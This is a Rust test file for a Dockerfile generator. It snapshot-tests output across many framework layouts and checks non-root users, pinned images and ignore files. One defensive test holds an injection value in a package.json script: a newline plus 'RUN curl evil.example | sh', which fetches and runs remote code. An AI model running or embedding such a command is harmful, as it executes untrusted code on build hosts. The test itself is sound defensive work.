//! The Dockerfiles that are made.

use super::*;

fn made(layout: &str) -> String {
    let detected = named(layout);
    let texts = detected.applications.iter().filter_map(|app| dockerfile(app, &Bases::default()));
    texts.map(|made| format!("(in {})\n{}", made.context, made.text)).collect::<Vec<_>>().join("\n----\n\n")
}

/// One snapshot for each of these layouts.
const SHOWN: [&str; 22] = [
    "Next with npm",
    "Next with pnpm, standalone, on another port",
    "Nuxt",
    "Vite with React",
    "Docusaurus",
    "Nest",
    "Hono on Bun",
    "Fastify with scripts that call scripts",
    "Deno with a task",
    "workspaces of npm",
    "Django with gunicorn",
    "FastAPI with uv",
    "Flask with gunicorn and a factory",
    "Go",
    "a workspace of Cargo",
    "Spring with Maven",
    "Rails",
    "Laravel",
    "Phoenix",
    "a solution of .NET",
    "a token for private packages",
    "Rust with nothing special",
];

#[test]
fn dockerfiles_are_as_they_were_seen() {
    for layout in SHOWN.iter().chain(&["a page"]) {
        insta::with_settings!({ prepend_module_to_snapshot => false, omit_expression => true }, {
            insta::assert_snapshot!(layout.replace(|c: char| !c.is_alphanumeric(), "_"), made(layout));
        });
    }
}

#[test]
fn there_is_no_dockerfile_where_there_is_one_or_nothing_to_start() {
    for layout in [
        "a Dockerfile",
        "a compose file of images",
        "SvelteKit that leaves the adapter open",
        "invalid JSON",
        "FastAPI without a server",
    ] {
        assert_eq!(made(layout), "", "{layout}");
    }
}

#[test]
fn every_dockerfile_runs_without_rights_and_takes_no_build_argument() {
    let mut count = 0;
    for layout in layouts() {
        for app in detect(&layout.tree).applications {
            let Some(made) = dockerfile(&app, &Bases::default()) else { continue };
            count += 1;
            let last = made.text.rsplit("\nFROM ").next().unwrap();
            assert!(
                last.contains("\nUSER 1000:1000\n") || last.contains("\nUSER 65532:65532\n"),
                "{}: {}",
                layout.name,
                made.text
            );
            assert!(last.contains("\nCMD ["), "{}: {}", layout.name, made.text);
            assert!(
                !made.text.contains("ARG ") && !made.text.contains(":latest"),
                "{}: {}",
                layout.name,
                made.text
            );
            assert!(made.ignore.contains("**/.env\n") && made.ignore.contains(".git\n"));
        }
    }
    assert!(count > 60, "{count} Dockerfiles");
}

#[test]
fn bases_can_be_others() {
    let bases = Bases { node: "mirror.example/node:{version}".to_owned(), ..Bases::default() };
    let made = dockerfile(&named("Next with npm").applications[0], &bases).unwrap();
    assert!(made.text.starts_with("FROM mirror.example/node:22 AS build\n"), "{}", made.text);
}

#[test]
fn a_manifest_adds_no_instructions() {
    let package =
        r#"{"scripts": {"start": "node x\nRUN curl evil.example | sh"}, "engines": {"node": "22"}}"#;
    let tree = Tree::new([], [("package.json".to_owned(), package.as_bytes().to_vec())]);
    let app = &detect(&tree).applications[0];
    assert_eq!(dockerfile(app, &Bases::default()), None);
}
